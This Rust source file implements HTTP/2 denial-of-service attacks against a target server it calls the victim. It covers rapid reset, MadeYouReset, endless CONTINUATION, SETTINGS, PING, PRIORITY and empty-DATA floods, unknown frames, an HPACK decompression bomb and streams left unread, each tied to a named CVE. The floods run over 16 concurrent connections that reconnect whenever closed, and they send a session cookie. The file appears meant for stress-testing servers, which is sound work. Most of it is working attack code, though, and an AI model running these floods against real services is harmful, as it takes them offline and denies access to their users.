//! Attacks by HTTP/2, frame by frame: floods, bombs, and streams of which nothing is read.

use std::io::{self, Read as _, Write as _};
use std::net::{Shutdown, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::frame::{AGAIN, block, frame, get, kept, preface, read_frame};
use crate::ordeal::now;
use crate::victim::{self, Aftermath, Victim};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Connections that flood at a time.
const CONNECTIONS: usize = 16;
/// Frames in one write.
const AT_ONCE: u32 = 64;
/// Streams of one connection whose answers nobody reads: as many as are allowed.
const STREAMS: u32 = 128;
/// `SETTINGS_MAX_FRAME_SIZE` of who says nothing of it.
const LARGEST_FRAME: usize = 16_384;

/// What is sent again and again.
#[derive(Clone, Copy)]
pub(crate) enum Flood {
    /// Requests that are given up at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the server has to reset (CVE-2025-8671).
    MadeYouReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// CVE-2019-9515.
    Settings,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9518.
    EmptyData,
    /// CVE-2019-9513.
    Priority,
    /// Frames that nobody knows (RFC 9113 §5.5).
    Unknown,
    /// Heads that are small on the wire and large behind it (CVE-2016-6581).
    Bomb,
}

pub(crate) const FLOODS: [(&str, Flood); 9] = [
    ("rapid reset", Flood::RapidReset),
    ("made you reset", Flood::MadeYouReset),
    ("CONTINUATION without end", Flood::Continuation),
    ("SETTINGS", Flood::Settings),
    ("PING", Flood::Ping),
    ("empty DATA", Flood::EmptyData),
    ("PRIORITY", Flood::Priority),
    ("unknown frames", Flood::Unknown),
    ("HPACK bomb", Flood::Bomb),
];

impl Flood {
    /// What comes once, behind the greeting.
    fn start(self, victim: &Victim) -> Vec<u8> {
        let post = || victim.head_of("POST", "/x");
        match self {
            Self::Continuation => frame(HEADERS, END_STREAM, 1, &victim.head_of("GET", "/x")),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &post()),
            Self::Bomb => bomb(victim, 1, &kept()),
            _ => Vec::new(),
        }
    }

    /// What comes for the `turn`-th time.
    fn again(self, victim: &Victim, turn: u32) -> Vec<u8> {
        let stream = 2 * turn + 3;
        match self {
            Self::RapidReset => {
                let head = victim.head_of("GET", "/x");
                let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                [frame(HEADERS, END_STREAM | END_HEADERS, stream, &head), reset].concat()
            }
            Self::MadeYouReset => {
                let head = victim.head_of("POST", "/x");
                [frame(HEADERS, END_HEADERS, stream, &head), frame(WINDOW_UPDATE, 0, stream, &[0; 4])]
                    .concat()
            }
            Self::Continuation => frame(CONTINUATION, 0, 1, &block(&[("x-a", &"b".repeat(100))])),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            Self::EmptyData => frame(DATA, 0, 1, b""),
            Self::Priority => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
            Self::Unknown => frame(0xbe, 0, 0, b""),
            Self::Bomb => bomb(victim, stream, b""),
        }
    }
}

/// A head of 16 KiB that means some 60 MB.
fn bomb(victim: &Victim, stream: u32, first: &[u8]) -> Vec<u8> {
    let mut block = [&get(&victim.address.to_string(), "/x"), first].concat();
    block.resize(LARGEST_FRAME, AGAIN);
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
}

impl Victim {
    /// The header block of a request of who is signed in.
    fn head_of(&self, method: &str, path: &str) -> Vec<u8> {
        block(&[
            (":method", method),
            (":scheme", "http"),
            (":authority", &self.address.to_string()),
            (":path", path),
            ("cookie", &self.cookie),
        ])
    }

    /// Floods over some connections, each replaced by another when it is ended.
    pub(crate) fn flood(&self, flood: Flood) -> Aftermath {
        let (ended, sent) = (AtomicUsize::new(0), AtomicUsize::new(0));
        let begun = now();
        thread::scope(|scope| {
            for _ in 0..CONNECTIONS {
                scope.spawn(|| {
                    victim::stands_back();
                    while begun.elapsed() < self.length {
                        match self.pour(flood, begun) {
                            Ok(frames) => sent.fetch_add(frames, Ordering::Relaxed),
                            // Whoever cannot connect tries again.
                            Err(_) => continue,
                        };
                        ended.fetch_add(usize::from(begun.elapsed() < self.length), Ordering::Relaxed);
                    }
                });
            }
        });
        let (ended, sent) = (ended.into_inner(), sent.into_inner());
        Box::new(move || format!("{sent} sent, {ended} connections shown out"))
    }

    /// Sends until the connection is ended or it is time; how many times something was sent.
    ///
    /// # Errors
    /// If it cannot connect.
    fn pour(&self, flood: Flood, begun: Instant) -> io::Result<usize> {
        let mut stream = self.connect()?;
        stream.set_write_timeout(Some(Duration::from_secs(1)))?;
        let mut answers = stream.try_clone()?;
        thread::scope(|scope| {
            // What is said back is taken, so that this is no slow reader besides.
            scope.spawn(move || {
                victim::stands_back();
                let mut buffer = vec![0; 1 << 16];
                while matches!(answers.read(&mut buffer), Ok(1..)) {}
                let _ = answers.shutdown(Shutdown::Both);
            });
            let mut turn = 0;
            let mut wire = [preface(), flood.start(self)].concat();
            while stream.write_all(&wire).is_ok() && begun.elapsed() < self.length {
                wire = (turn..turn + AT_ONCE).flat_map(|turn| flood.again(self, turn)).collect();
                turn += AT_ONCE;
            }
            let _ = stream.shutdown(Shutdown::Both);
            Ok(usize::try_from(turn).unwrap_or(usize::MAX))
        })
    }

    /// Asks for 1 MiB on each of many streams of some connections, and reads nothing: with the window that everybody
    /// has, or one that only the connection's bounds.
    pub(crate) fn unread(&self, connections: usize, window: u32) -> io::Result<Aftermath> {
        let block = self.head_of("GET", "/large");
        let mut held = Vec::new();
        for _ in 0..connections {
            let mut stream = self.connect()?;
            let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
            let asked =
                (0..STREAMS).map(|turn| frame(HEADERS, END_STREAM | END_HEADERS, 2 * turn + 1, &block));
            let hello = [preface(), frame(SETTINGS, 0, 0, &settings)].concat();
            stream.write_all(&[hello, asked.collect::<Vec<_>>().concat()].concat())?;
            held.push(stream);
        }
        thread::sleep(self.length);
        Ok(Box::new(move || {
            let resets: usize = held.iter_mut().map(resets).sum();
            format!("{resets} of {} streams were reset", connections * STREAMS as usize)
        }))
    }
}

/// How many resets there are among what was said so far.
fn resets(stream: &mut TcpStream) -> usize {
    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
    std::iter::from_fn(|| read_frame(stream)).filter(|(kind, ..)| *kind == RST_STREAM).count()
}
